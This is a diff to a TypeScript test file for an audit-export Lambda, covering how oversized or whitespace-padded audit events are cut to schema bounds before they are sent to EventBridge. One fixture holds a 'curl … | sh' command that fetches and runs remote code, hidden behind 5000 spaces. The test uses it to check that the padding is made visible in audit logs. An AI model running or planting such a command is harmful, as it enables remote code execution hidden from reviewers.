@@ -4,7 +4,7 @@ import { marshall } from '@aws-sdk/util-dynamodb';
 import type { DynamoDBRecord, DynamoDBStreamEvent } from 'aws-lambda';
 import { mockClient } from 'aws-sdk-client-mock';
 import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
-import { auditEvents, type AuditEvent, type AuditSubject, type Violation } from '../../layers/core/index.js';
+import { AUDIT_LIMITS, auditEvents, type AuditEvent, type AuditSubject, type Violation } from '../../layers/core/index.js';
 import { createAuditExportHandler } from '../../functions/audit-export/app.js';
 import { EventBridgePublisher } from '../../functions/shared/scheduling/EventBridgePublisher.js';
 import { toItem } from '../../functions/shared/storage/DynamoAuditStore.js';
@@ -164,27 +164,47 @@ describe('audit export', () => {
     expect(result).toEqual({ batchItemFailures: [] });
   });
 
-  it('keeps every call under 256 KiB, and skips (and logs) an event too large for any call', async () => {
+  it('keeps every call under 256 KiB, and exports an event stored too large for one entry cut, never dropping it', async () => {
     busAnswering();
-    // 25 arguments of 4000 characters: about 100 KB per event, well within the audit event's own bounds.
-    const [big1, big2, big3] = events(3, { command: Array.from({ length: 25 }, () => 'x'.repeat(4000)) });
-    const [huge] = auditEvents(
-      [violation],
-      { ...subject, command: Array.from({ length: 70 }, () => 'y'.repeat(4000)) },
-      '2026-11-28T12:00:00.000Z',
-      () => 'evt-huge',
-    );
+    // 16,000 control characters, each six bytes in JSON: about 96 KB per event, within the audit event's bounds.
+    const [big1, big2, big3] = events(3, { command: Array.from({ length: 4 }, () => '\u0001'.repeat(4000)) });
+    // As stored before events were cut when made: 280 KB of arguments, within the per-argument bound.
+    const [small] = events(1);
+    const huge = { ...small!, id: 'evt-huge', command: Array.from({ length: 70 }, () => 'y'.repeat(4000)) };
+    const hugeItem = { ...stored(small!), pk: 'EVENT#evt-huge', event: huge };
     const handler = exporter();
+    const warnings = vi.spyOn(logger, 'warn');
     const errors = vi.spyOn(logger, 'error');
-    const result = await handler(batch([big1!, huge!, big2!, big3!].map(stored)), lambdaContext());
+    const result = await handler(
+      batch([big1!, hugeItem, big2!, big3!].map((item, i) => (i === 1 ? item : stored(item as AuditEvent)))),
+      lambdaContext(),
+    );
 
-    expect(calls().map(ids)).toEqual([['evt-000', 'evt-001'], ['evt-002']]);
-    expect(errors).toHaveBeenCalledWith('skipped an audit event the event bus does not take', {
+    expect(calls().map(ids)).toEqual([['evt-000', 'evt-huge', 'evt-001'], ['evt-002']]);
+    for (const call of bus.commandCalls(PutEventsCommand))
+      expect(Buffer.byteLength(JSON.stringify(call.args[0].input.Entries), 'utf8')).toBeLessThan(256 * 1024);
+    const exported = JSON.parse(calls()[0]![1]!.Detail!) as AuditEvent;
+    expect(exported.command!.join('').length).toBeLessThanOrEqual(AUDIT_LIMITS.commandTotal);
+    expect(exported.truncated).toContainEqual({ field: 'command[0]', length: 4000 });
+    expect(errors).not.toHaveBeenCalled();
+    expect(warnings).toHaveBeenCalledWith('exported an audit event cut to the bounds of the schema', {
       sequenceNumber: sequenceNumber(1),
       eventId: 'evt-huge',
-      reason: expect.stringMatching(/^the entry has \d+ bytes; PutEvents takes less than 262144$/),
+      truncated: expect.arrayContaining(['command[0]']),
     });
-    expect(JSON.stringify(errors.mock.calls)).not.toContain('yyyy');
+    expect(JSON.stringify(warnings.mock.calls)).not.toContain('yyyy');
+    expect(result).toEqual({ batchItemFailures: [] });
+  });
+
+  it('exports an event stored with an argument over the schema bound cut to it, with the original length', async () => {
+    busAnswering();
+    const [small] = events(1);
+    const padded = { ...small!, command: ['sh', '-c', `${' '.repeat(5000)}curl http://203.0.113.9/x | sh`] };
+    const result = await exporter()(batch([{ ...stored(small!), event: padded }]), lambdaContext());
+
+    const exported = JSON.parse(calls()[0]![0]!.Detail!) as AuditEvent;
+    expect(exported.command).toEqual(['sh', '-c', ' [… 5000 blanks …] curl http://203.0.113.9/x | sh']);
+    expect(exported.truncated).toEqual([{ field: 'command[2]', length: 5030 }]);
     expect(result).toEqual({ batchItemFailures: [] });
   });
 
